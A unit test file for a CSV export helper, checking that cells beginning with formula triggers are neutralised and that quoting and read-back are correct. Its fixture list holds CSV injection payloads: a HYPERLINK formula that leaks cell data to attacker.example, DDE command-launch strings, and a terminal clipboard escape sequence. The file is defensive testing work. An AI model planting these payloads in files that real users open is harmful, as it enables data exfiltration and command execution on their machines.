import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv, restoreCsvCell } from './csv';

// Payloads from the OWASP CSV injection page and the usual DDE examples, plus the quoting cases of RFC 4180.
const NASTY = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'Model "X", v2',
  'two\nlines',
  'ends with CRLF\r\n',
  '\u001b]52;c;cHduZWQ=\u0007GPT',
  "'90s model",
  'a=b',
  ' =spaced',
];

describe('formatCsv', () => {
  it('neutralises formula triggers and quotes what needs quoting, exactly', () => {
    const text = formatCsv(
      ['name', '=header'],
      NASTY.map((name) => [name, null]),
    );
    expect(text.split('\r\n').slice(0, -1)).toEqual([
      "name,'=header",
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click for details"")",`,
      "'=cmd|' /C calc'!A0,",
      `"'+1+cmd|"" /C calc""!A0",`,
      "'-2+3+cmd|' /C calc'!A0,",
      `"'@SUM(1+9)*cmd|"" /C calc""!A0",`,
      "'\t=1+1,",
      // CR is a line break to sanitizeText: written as LF, the cell no longer starts a formula, and it is quoted.
      '"\n=1+1",',
      '"Model ""X"", v2",',
      '"two\nlines",',
      '"ends with CRLF\n",',
      '\ufffd]52;c;cHduZWQ=\ufffdGPT,',
      "'90s model,",
      'a=b,',
      ' =spaced,',
    ]);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('reads back, through a CSV parser and restoreCsvCell, to the text written', () => {
    const text = formatCsv(
      ['name'],
      NASTY.map((name) => [name]),
    );
    const cells = (parse(text) as string[][]).slice(1).map(([cell]) => restoreCsvCell(cell ?? ''));
    const expected = NASTY.map((name) =>
      name
        .replace(/\r\n|\r/g, '\n')
        // biome-ignore lint/suspicious/noControlCharactersInRegex: the ESC and BEL of the payload
        .replace(/[\u001b\u0007]/g, '\ufffd'),
    );
    expect(cells).toEqual(expected);
  });

  it('writes numbers and booleans as typed values, never neutralised; null and undefined as empty cells', () => {
    expect(formatCsv(['a', 'b', 'c', 'd', 'e'], [[-1.5, 3.8e25, true, null, undefined]])).toBe(
      'a,b,c,d,e\r\n-1.5,3.8e+25,true,,\r\n',
    );
  });

  it('formats numbers per column when asked', () => {
    const text = formatCsv(['x', 'y'], [[2.4299999999999997e24, 0.30000000000000004]], {
      formatNumber: (value, column) => (column === 0 ? value.toExponential(1) : value.toFixed(1)),
    });
    expect(text).toBe('x,y\r\n2.4e+24,0.3\r\n');
  });

  it('writes a header alone when there are no rows', () => {
    expect(formatCsv(['id', 'name'], [])).toBe('id,name\r\n');
  });
});

describe('restoreCsvCell', () => {
  it('drops the neutralising quote only before a formula trigger', () => {
    expect(restoreCsvCell("'=1+1")).toBe('=1+1');
    expect(restoreCsvCell("'90s model")).toBe("'90s model");
    expect(restoreCsvCell('plain')).toBe('plain');
  });
});
